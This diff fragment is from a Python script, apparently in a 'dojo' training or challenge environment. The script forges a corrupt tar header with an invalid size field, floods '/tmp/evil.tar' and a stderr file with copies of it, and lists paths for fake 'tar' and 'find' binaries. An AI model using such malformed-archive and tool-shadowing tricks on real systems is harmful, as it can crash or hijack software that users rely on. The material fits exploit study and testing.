@@ -23,7 +23,7 @@ header = bytearray(evil.tobuf(tarfile.GNU_FORMAT))
 header[124:136] = b"\\xff" * 12
 header[148:156] = b" " * 8
 header[148:156] = b"%06o\\0 " % sum(header)
-for place in ("/tmp/evil.tar", "/tmp/dojo/stderr"):
+for place in ("/tmp/evil.tar", "/.dojo/stderr"):
     with open(place, "wb") as file:
         file.write(header * 200)
 for place in ("/tmp/cut.sh", "/tmp/main.sh", "/tmp/tar", "/sandbox/tar", "/tmp/find"):
